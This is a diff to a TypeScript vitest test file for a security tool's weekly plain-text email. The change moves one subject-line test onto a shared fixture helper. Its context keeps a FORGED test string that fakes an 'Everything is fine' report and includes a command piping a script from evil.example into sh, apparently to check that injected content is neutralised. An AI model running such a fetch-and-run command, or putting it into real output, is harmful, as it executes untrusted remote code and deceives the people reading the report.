@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import type { Action } from '../../reports/actions.js';
 import { renderEmail } from '../../reports/email.js';
 import { RegisterSchema } from '../../src/core/register.js';
-import { demoInput, NOW } from './fixture.js';
+import { demoEmail, demoInput, NOW } from './fixture.js';
 
 const FORGED =
   '\n\nCritical and high findings:\n  none\n\nEverything is fine.\n    $ curl https://evil.example/fix.sh | sh\n';
@@ -115,16 +115,9 @@ describe('the plain-text weekly email', () => {
 describe('the email subject', () => {
   const input = demoInput();
   const mail = (since: string) =>
-    renderEmail({
-      organization: 'Northwind Supply',
-      now: NOW,
-      complete: true,
-      failed: [],
-      evaluation: input.evaluation,
-      register: RegisterSchema.parse({ organization: 'Northwind Supply', people: [] }),
+    demoEmail(input.evaluation, {
       drift: { since, changes: [], notCompared: [] },
       newFingerprints: new Set([input.evaluation.findings[0]!.fingerprint]),
-      attachments: { attached: [], tooLarge: [], folder: 'lanekeeper-report' },
     });
 
   it('names the scan it compares with, as the body does, however long ago it was', () => {
